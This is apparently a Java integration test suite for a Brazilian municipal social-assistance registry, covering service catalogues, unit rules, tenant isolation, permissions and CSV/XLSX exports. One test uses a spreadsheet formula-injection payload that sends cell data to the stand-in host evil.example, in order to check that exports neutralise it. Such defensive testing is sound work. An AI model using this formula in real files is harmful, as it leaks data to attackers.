package br.org.teia.structure.unit;

import static br.org.teia.testsupport.ActingAs.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import br.org.teia.kernel.NotFoundException;
import br.org.teia.kernel.TeiaException;
import br.org.teia.kernel.i18n.I18nConfiguration;
import br.org.teia.kernel.i18n.Messages;
import br.org.teia.kernel.security.Role;
import br.org.teia.kernel.tenancy.TenantId;
import br.org.teia.kernel.tenancy.TenantOnboarding;
import br.org.teia.structure.StructureContext;
import br.org.teia.structure.territory.TerritoryForm;
import br.org.teia.structure.territory.TerritoryService;
import br.org.teia.testsupport.TeiaTestApplication;
import jakarta.validation.ConstraintViolation;
import jakarta.validation.ConstraintViolationException;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.security.access.AccessDeniedException;

@SpringBootTest(classes = TeiaTestApplication.class)
@StructureContext
class UnitServiceIT {

  static final TenantId NOVA_LIMA = TenantId.of("3144805");
  static final TenantId ITABIRITO = TenantId.of("3133808");

  @Autowired UnitService units;
  @Autowired UnitExport export;
  @Autowired TerritoryService territories;
  @Autowired TenantOnboarding onboarding;
  @Autowired Messages messages;

  @BeforeEach
  void twoMunicipalities() {
    onboarding.onboard(List.of(NOVA_LIMA.ibgeCode(), ITABIRITO.ibgeCode()));
  }

  @Test
  void the_catalogue_holds_the_twelve_services_of_the_tipificacao_by_protection_level() {
    List<TypifiedServiceSummary> catalogue = as(NOVA_LIMA, Role.COUNCIL_MEMBER, () -> units.catalogue());

    assertThat(catalogue).extracting(TypifiedServiceSummary::code).containsExactly("PAIF", "SCFV", "PSB_DOMICILIO",
        "PAEFI", "ABORDAGEM_SOCIAL", "MSE_MEIO_ABERTO", "PSE_PCD_IDOSOS", "POP_RUA", "ACOLHIMENTO_INSTITUCIONAL",
        "ACOLHIMENTO_REPUBLICA", "FAMILIA_ACOLHEDORA", "CALAMIDADES");
    assertThat(catalogue).filteredOn(s -> s.protectionLevel() == ProtectionLevel.BASIC).hasSize(3);
    assertThat(catalogue).filteredOn(s -> s.protectionLevel() == ProtectionLevel.SPECIAL_MEDIUM).hasSize(5);
    assertThat(catalogue).filteredOn(s -> s.protectionLevel() == ProtectionLevel.SPECIAL_HIGH).hasSize(4);
    assertThat(offeredBy(catalogue, "PAIF")).containsExactly(UnitType.CRAS);
    assertThat(offeredBy(catalogue, "PAEFI")).containsExactly(UnitType.CREAS);
    assertThat(offeredBy(catalogue, "POP_RUA")).containsExactly(UnitType.CENTRO_POP);
  }

  @Test
  void a_cras_offering_paif_in_a_territory_is_listed_with_its_territory_and_services() {
    UnitSummary cras = as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> {
      UUID territory = territories.create(new TerritoryForm("Território " + unique(), null, 3000, null)).id();
      return units.create(new UnitForm(UnitType.CRAS, "CRAS " + unique(), "Rua A, 10", territory,
          LocalDate.of(2010, 4, 1), null, 5000, null, Set.of("SCFV", "PAIF")));
    });

    UnitSummary read = as(NOVA_LIMA, Role.COUNCIL_MEMBER, () -> units.list(cras.name(), null, 0, 10).getContent().getFirst());
    assertThat(read.services()).containsExactly("PAIF", "SCFV");
    assertThat(read.territoryName()).startsWith("Território ");
    assertThat(read.status()).isEqualTo(UnitStatus.ACTIVE);
  }

  @Test
  void paif_added_to_a_creas_is_refused_with_a_portuguese_message() {
    UnitSummary creas = as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(unit(UnitType.CREAS, "PAEFI")));

    assertThatThrownBy(() -> as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.addService(creas.id(), "PAIF")))
        .isInstanceOfSatisfying(TeiaException.class, e -> assertThat(messages.get(I18nConfiguration.PT_BR,
                e.messageKey(), e.arguments()))
            .isEqualTo("Uma unidade do tipo CREAS não pode ofertar o \"Serviço de Proteção e Atendimento Integral "
                + "à Família (PAIF)\" (Tipificação Nacional, Resolução CNAS nº 109/2009)."));
    assertThat(as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.get(creas.id()).services())).containsExactly("PAEFI");
  }

  @Test
  void paefi_only_in_a_creas_and_the_homeless_service_only_in_a_centro_pop() {
    assertThatThrownBy(() -> as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(unit(UnitType.CRAS, "PAEFI"))))
        .isInstanceOfSatisfying(TeiaException.class,
            e -> assertThat(e.messageKey()).isEqualTo("structure.unit.service.not-allowed"));
    assertThatThrownBy(() -> as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(unit(UnitType.CREAS, "POP_RUA"))))
        .isInstanceOfSatisfying(TeiaException.class,
            e -> assertThat(e.messageKey()).isEqualTo("structure.unit.service.not-allowed"));
    assertThat(as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(unit(UnitType.CENTRO_POP, "POP_RUA")).services()))
        .containsExactly("POP_RUA");
  }

  @Test
  void a_mobile_team_must_be_attached_to_an_existing_cras() {
    UnitSummary creas = as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(unit(UnitType.CREAS)));
    UnitSummary cras = as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(unit(UnitType.CRAS)));

    assertThatThrownBy(() -> as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(volante(null))))
        .isInstanceOfSatisfying(TeiaException.class,
            e -> assertThat(e.messageKey()).isEqualTo("structure.unit.mobile-team.cras-required"));
    assertThatThrownBy(() -> as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(volante(UUID.randomUUID()))))
        .isInstanceOfSatisfying(TeiaException.class,
            e -> assertThat(e.messageKey()).isEqualTo("structure.unit.mobile-team.cras-not-found"));
    assertThatThrownBy(() -> as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(volante(creas.id()))))
        .isInstanceOfSatisfying(TeiaException.class,
            e -> assertThat(e.messageKey()).isEqualTo("structure.unit.mobile-team.parent-not-cras"));
    UnitSummary team = as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(volante(cras.id())));
    assertThat(team.parentCrasName()).isEqualTo(cras.name());
    assertThatThrownBy(() -> as(NOVA_LIMA, Role.MUNICIPAL_MANAGER, () -> {
      units.delete(cras.id());
      return null;
    })).isInstanceOfSatisfying(TeiaException.class,
        e -> assertThat(e.messageKey()).isEqualTo("structure.unit.cras-has-mobile-teams"));
  }

  @Test
  void another_municipalitys_unit_and_territory_do_not_exist_here() {
    UnitSummary mine = as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(unit(UnitType.CRAS, "PAIF")));
    UUID myTerritory = as(NOVA_LIMA, Role.MUNICIPAL_STAFF,
        () -> territories.create(new TerritoryForm("Território " + unique(), null, null, null)).id());

    assertThatThrownBy(() -> as(ITABIRITO, Role.MUNICIPAL_MANAGER, () -> units.get(mine.id())))
        .isInstanceOf(NotFoundException.class);
    assertThatThrownBy(() -> as(ITABIRITO, Role.MUNICIPAL_MANAGER, () -> units.addService(mine.id(), "SCFV")))
        .isInstanceOf(NotFoundException.class);
    assertThatThrownBy(() -> as(ITABIRITO, Role.MUNICIPAL_MANAGER, () -> units.create(new UnitForm(UnitType.CRAS,
        "CRAS " + unique(), null, myTerritory, null, null, null, null, Set.of()))))
        .isInstanceOfSatisfying(TeiaException.class,
            e -> assertThat(e.messageKey()).isEqualTo("structure.unit.territory.not-found"));
    assertThat(as(ITABIRITO, Role.COUNCIL_MEMBER, () -> units.list(mine.name(), null, 0, 10).getTotalElements()))
        .isZero();
  }

  @Test
  void invalid_form_is_refused_with_portuguese_messages_per_field() {
    assertThatThrownBy(() -> as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(new UnitForm(null, " ", null,
        null, LocalDate.now().plusDays(2), null, -1, null, Set.of()))))
        .isInstanceOfSatisfying(ConstraintViolationException.class, e -> assertThat(e.getConstraintViolations())
            .extracting(ConstraintViolation::getMessage)
            .containsExactlyInAnyOrder("Escolha o tipo da unidade.", "Informe o nome da unidade.",
                "A data de inauguração não pode estar no futuro.", "Informe uma capacidade entre 0 e 1.000.000."));
  }

  @Test
  void council_member_reads_but_cannot_create_or_add_services() {
    UnitSummary cras = as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(unit(UnitType.CRAS)));

    assertThatThrownBy(() -> as(NOVA_LIMA, Role.COUNCIL_MEMBER, () -> units.create(unit(UnitType.CRAS))))
        .isInstanceOf(AccessDeniedException.class);
    assertThatThrownBy(() -> as(NOVA_LIMA, Role.COUNCIL_MEMBER, () -> units.addService(cras.id(), "PAIF")))
        .isInstanceOf(AccessDeniedException.class);
  }

  @Test
  void a_service_is_added_and_removed() {
    UnitSummary cras = as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.create(unit(UnitType.CRAS)));

    assertThat(as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.addService(cras.id(), "paif").services()))
        .containsExactly("PAIF");
    assertThat(as(NOVA_LIMA, Role.MUNICIPAL_STAFF, () -> units.removeService(cras.id(), "PAIF").services())).isEmpty();
  }

  @Test
  void the_csv_and_xlsx_exports_read_back_with_the_units() throws Exception {
    String name = "CRAS Exportado; \"Norte\" " + unique();
    as(ITABIRITO, Role.MUNICIPAL_STAFF, () -> units.create(new UnitForm(UnitType.CRAS, name, "Rua B, 20", null,
        LocalDate.of(2009, 12, 1), null, 3500, null, Set.of("PAIF", "SCFV"))));

    String csv = new String(as(ITABIRITO, Role.COUNCIL_MEMBER,
        () -> export.csv(name, null, I18nConfiguration.PT_BR)), StandardCharsets.UTF_8);
    assertThat(csv).startsWith("\uFEFFTipo;Nome da unidade;Endereço;Território;CRAS de referência;"
        + "Data de inauguração;Situação;Capacidade;Serviços ofertados\r\n");
    assertThat(csv.lines().skip(1).toList()).containsExactly(
        "CRAS;\"" + name.replace("\"", "\"\"") + "\";Rua B, 20;;;01/12/2009;Ativa;3500;Serviço de Proteção e Atendimento Integral à Família (PAIF), Serviço de Convivência e Fortalecimento de Vínculos (SCFV)");

    byte[] xlsx = as(ITABIRITO, Role.COUNCIL_MEMBER, () -> export.xlsx(name, null, I18nConfiguration.PT_BR));
    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
      List<Row> rows = workbook.getFirstSheet().read();
      assertThat(rows).hasSize(2);
      assertThat(rows.get(0).getCellText(1)).isEqualTo("Nome da unidade");
      assertThat(rows.get(1).getCellText(1)).isEqualTo(name);
      assertThat(rows.get(1).getCellAsDate(5)).hasValueSatisfying(
          date -> assertThat(date.toLocalDate()).isEqualTo(LocalDate.of(2009, 12, 1)));
      assertThat(rows.get(1).getCellAsNumber(7)).hasValueSatisfying(n -> assertThat(n.intValue()).isEqualTo(3500));
      assertThat(rows.get(1).getCellText(8))
          .isEqualTo("Serviço de Proteção e Atendimento Integral à Família (PAIF), Serviço de Convivência e Fortalecimento de Vínculos (SCFV)");
    }
  }

  @Test
  void a_unit_named_like_a_formula_is_exported_as_text_not_run_by_the_spreadsheet() throws Exception {
    String tag = unique();
    String name = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Ver CRAS\") " + tag;
    as(ITABIRITO, Role.MUNICIPAL_STAFF, () -> units.create(new UnitForm(UnitType.CRAS, name, "@Rua C, 30", null,
        LocalDate.of(2010, 1, 4), null, 100, null, Set.of("PAIF"))));

    String csv = new String(as(ITABIRITO, Role.COUNCIL_MEMBER,
        () -> export.csv(tag, null, I18nConfiguration.PT_BR)), StandardCharsets.UTF_8);
    assertThat(csv.lines().skip(1).toList()).containsExactly(
        "CRAS;\"'" + name.replace("\"", "\"\"") + "\";'@Rua C, 30;;;04/01/2010;Ativa;100;Serviço de Proteção e Atendimento Integral à Família (PAIF)");

    byte[] xlsx = as(ITABIRITO, Role.COUNCIL_MEMBER, () -> export.xlsx(tag, null, I18nConfiguration.PT_BR));
    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
      Row row = workbook.getFirstSheet().read().get(1);
      assertThat(row.getCellText(1)).isEqualTo("'" + name);
      assertThat(row.getCellText(2)).isEqualTo("'@Rua C, 30");
    }
  }

  private static Set<UnitType> offeredBy(List<TypifiedServiceSummary> catalogue, String code) {
    return catalogue.stream().filter(s -> s.code().equals(code)).findFirst().orElseThrow().offeredBy();
  }

  static UnitForm unit(UnitType type, String... services) {
    return new UnitForm(type, type + " " + unique(), null, null, null, null, 1000, null, Set.of(services));
  }

  static UnitForm volante(UUID cras) {
    return new UnitForm(UnitType.EQUIPE_VOLANTE, "Equipe volante " + unique(), null, null, null, null, null, cras,
        Set.of());
  }

  static String unique() {
    return UUID.randomUUID().toString().substring(0, 8);
  }
}
